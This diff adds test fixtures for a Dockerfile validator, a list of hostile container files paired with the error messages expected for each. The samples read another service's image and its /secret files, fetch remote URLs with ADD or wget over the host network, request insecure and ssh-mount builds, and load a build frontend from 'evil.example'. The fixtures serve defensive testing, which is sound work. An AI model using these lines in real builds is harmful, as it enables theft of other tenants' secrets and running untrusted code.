@@ -77,3 +77,72 @@ export const HIDDEN_INSTRUCTIONS: readonly HostileContainerFile[] = [
     message: /^1: 12 names an image by its id/,
   },
 ];
+
+/** What a container file may not name: images of others, addresses, builders and bounds of its own. */
+export const FOREIGN_SOURCES: readonly HostileContainerFile[] = [
+  {
+    name: 'the image of another service',
+    text: 'FROM {victim}\nUSER 1001\n',
+    message: /^1: .* platform's registry and not of this service/,
+  },
+  {
+    name: 'the image of another service by a number',
+    text: 'FROM {victimByNumber}\nUSER 1001\n',
+    message: /^1: .* registry named by an address/,
+  },
+  {
+    name: 'the image of another service by its id',
+    text: 'FROM {victimId}\nUSER 1001\n',
+    message: /^1: .* names an image by its id/,
+  },
+  {
+    name: 'the image of another service by variables',
+    text: 'ARG HOST={registry}\nARG IMAGE=$HOST/{victimName}\nFROM $IMAGE\nUSER 1001\n',
+    message: /^3: .* platform's registry/,
+  },
+  {
+    name: 'files of the image of another service',
+    text: 'FROM alpine\nCOPY --chown=1 \\\n --from={victim} /secret /s\nUSER 1001\n',
+    message: /^2: .* platform's registry/,
+  },
+  {
+    name: 'a mount of the image of another service',
+    text: 'FROM alpine\nRUN --mount=type=bind,from=alpine,FROM={victim},target=/v cat /v/secret\nUSER 1001\n',
+    message: /^2: .* platform's registry/,
+  },
+  {
+    name: 'an address for the builder to fetch',
+    text: 'FROM alpine\nADD {url} /x\nUSER 1001\n',
+    message: /^2: ADD of an address/,
+  },
+  {
+    name: 'an address in ONBUILD',
+    text: 'FROM alpine\nONBUILD ADD {url} /x\nUSER 1001\n',
+    message: /^2: ADD of an address/,
+  },
+  {
+    name: 'a repository for the builder to fetch',
+    text: 'FROM alpine\nADD git@127.0.0.1:a/b.git /x\nUSER 1001\n',
+    message: /^2: ADD of an address/,
+  },
+  {
+    name: 'a builder of its own',
+    text: '# syntax=evil.example/frontend\nFROM alpine\nUSER 1001\n',
+    message: /^1: # syntax=/,
+  },
+  {
+    name: 'the network of the machine',
+    text: 'FROM alpine\nRUN --network=host wget -qO- {url}\nUSER 1001\n',
+    message: /^2: RUN --network=host is not given/,
+  },
+  {
+    name: 'a container without bounds',
+    text: 'FROM alpine\nRUN --security=insecure mount\nUSER 1001\n',
+    message: /^2: RUN --security is not given/,
+  },
+  {
+    name: 'keys of the machine',
+    text: 'FROM alpine\nRUN --mount=type=ssh ssh-add -l\nUSER 1001\n',
+    message: /^2: RUN --mount=type=ssh has no key/,
+  },
+];
